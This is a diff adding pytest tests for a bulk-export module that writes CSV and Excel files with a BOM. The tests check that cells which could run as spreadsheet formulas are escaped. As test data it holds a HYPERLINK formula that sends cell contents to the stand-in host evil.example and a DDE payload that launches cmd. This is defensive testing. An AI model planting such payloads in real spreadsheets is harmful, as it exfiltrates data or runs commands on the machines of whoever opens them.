@@ -1,0 +1,143 @@
+"""Downloads: UTF-8 with BOM for Excel, and no cell a spreadsheet would run as a formula."""
+from __future__ import annotations
+
+import codecs
+import csv
+import io
+from datetime import datetime, timezone
+
+import openpyxl
+import pandas as pd
+import pytest
+
+from cmlib.bulk.csv_input import parse_text
+from cmlib.bulk.engine import JobSnapshot, LookupResult
+from cmlib.bulk.export import FORMULA_PREFIXES, neutralise, open_csv_output, to_csv_bytes, to_excel_bytes
+from cmlib.bulk.matrix import build_matrix, layout_for, summarise
+from cmlib.bulk.validate import validate_table
+
+EVIL_LIST = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+INPUT = (
+    "Email;Comment;Phone;Имя\n"
+    "anna@x.com;=1+1;+7 999 123-45-67;Анна\n"
+    "ivan@x.com;@SUM(A1:A2);-5;Иван\n"
+    "oleg@x.com;\tTAB;\"\rCR\";Олег\n"
+    "=cmd|' /C calc'!A0;x;y;z\n"
+)
+HEADER_ATTACK = "Email;=Header;+Plus\na@x.com;1;2\n"
+
+
+def matrix_and_summary(text=INPUT):
+    bi = validate_table(parse_text(text))
+    results = {
+        "anna@x.com": LookupResult("anna@x.com", (("L1", "Active"), ("L2", "Unsubscribed"))),
+        "ivan@x.com": LookupResult("ivan@x.com", (("L2", "Bounced"),)),
+        "oleg@x.com": LookupResult("oleg@x.com", ()),
+        "a@x.com": LookupResult("a@x.com", ()),
+    }
+    snap = JobSnapshot("j", bi, results, {"L1": EVIL_LIST, "L2": "-minus list"}, False, "done", None, (),
+                       datetime.now(timezone.utc))
+    layout = layout_for(snap)
+    df = build_matrix(snap, layout)
+    summary, _ = summarise(snap, layout)
+    return df, summary, layout
+
+
+@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
+def test_neutralise_each_dangerous_prefix(prefix):
+    assert neutralise(prefix + "cmd") == "'" + prefix + "cmd"
+
+
+@pytest.mark.parametrize("value", ["anna@x.com", "Active", "", " =not first", "1+1", 5, 2.5, None])
+def test_neutralise_leaves_safe_values_alone(value):
+    assert neutralise(value) == value
+
+
+def _reader(data: bytes, delimiter=","):
+    assert data.startswith(codecs.BOM_UTF8)
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))
+
+
+def _no_dangerous_cell(rows):
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(FORMULA_PREFIXES), repr(cell)
+
+
+def test_csv_download_has_bom_and_neutralised_cells_and_headers():
+    df, _, layout = matrix_and_summary()
+    data = to_csv_bytes(df)
+    rows = _reader(data)
+    _no_dangerous_cell(rows)
+    header = rows[0]
+    assert "'" + EVIL_LIST in header and "'-minus list" in header
+    body = {r[0]: dict(zip(header, r)) for r in rows[1:]}
+    assert body["2"]["Comment"] == "'=1+1"
+    assert body["2"]["Phone"] == "'+7 999 123-45-67"
+    assert body["2"]["Имя"] == "Анна"  # Cyrillic survives
+    assert body["3"]["Comment"] == "'@SUM(A1:A2)" and body["3"]["Phone"] == "'-5"
+    assert body["4"]["Comment"] == "'\tTAB" and body["4"]["Phone"] == "'\rCR"
+    assert body["5"]["Email"] == "'=cmd|' /C calc'!A0" and body["5"]["Status"] == "invalid"
+    assert body["2"]["'" + EVIL_LIST] == "Active"
+
+
+def test_csv_header_cells_from_the_input_are_neutralised_too():
+    df, _, _ = matrix_and_summary(HEADER_ATTACK)
+    header = _reader(to_csv_bytes(df))[0]
+    assert "'=Header" in header and "'+Plus" in header
+
+
+def test_csv_with_semicolons_for_russian_excel():
+    df, _, _ = matrix_and_summary()
+    rows = _reader(to_csv_bytes(df, delimiter=";"), delimiter=";")
+    assert rows[0][:3] == ["Row", "Email", "Status"]
+    assert len(rows) == len(df) + 1
+
+
+def test_summary_csv_includes_the_list_names_neutralised():
+    _, summary, _ = matrix_and_summary()
+    rows = _reader(to_csv_bytes(summary, index=True))
+    assert rows[0][0] == "List"
+    assert rows[1][0] == "'" + EVIL_LIST
+
+
+def test_excel_download_holds_no_formula_and_keeps_the_text():
+    df, summary, layout = matrix_and_summary()
+    data = to_excel_bytes(df, state_columns=layout.list_columns, summary=summary)
+    assert data[:2] == b"PK"
+    wb = openpyxl.load_workbook(io.BytesIO(data))
+    assert wb.sheetnames == ["Matrix", "Summary"]
+    ws = wb["Matrix"]
+    for row in ws.iter_rows():
+        for cell in row:
+            assert cell.data_type != "f", cell.coordinate
+            if isinstance(cell.value, str):
+                assert not cell.value.startswith(FORMULA_PREFIXES), (cell.coordinate, cell.value)
+    header = [c.value for c in ws[1]]
+    assert "'" + EVIL_LIST in header
+    col = {name: i for i, name in enumerate(header)}
+    row2 = [c.value for c in ws[2]]
+    assert row2[col["Comment"]] == "'=1+1"
+    assert row2[col["Имя"]] == "Анна"
+    assert row2[col["Row"]] == 2  # numbers stay numbers
+    active = ws.cell(row=2, column=col["'" + EVIL_LIST] + 1)
+    assert active.value == "Active" and active.fill.start_color.rgb.endswith("DCFCE7")
+    ss = wb["Summary"]
+    assert ss.cell(row=2, column=1).value == "'" + EVIL_LIST
+    assert [c.value for c in ss[1]][:3] == ["List", "Active", "Unsubscribed"]
+
+
+def test_excel_replaces_characters_xml_cannot_hold():
+    df = pd.DataFrame({"Email": ["a@x.com"], "Note": ["bell\x07 and nul\x00"]})
+    wb = openpyxl.load_workbook(io.BytesIO(to_excel_bytes(df)))
+    assert wb.active["B2"].value == "bell\ufffd and nul\ufffd"
+
+
+def test_streamed_csv_file_matches_the_download(tmp_path):
+    df, _, _ = matrix_and_summary()
+    path = tmp_path / "out.csv"
+    fh, sink = open_csv_output(str(path), list(df.columns))
+    for row in df.itertuples(index=False, name=None):
+        sink.write(row)
+    fh.close()
+    assert path.read_bytes() == to_csv_bytes(df)
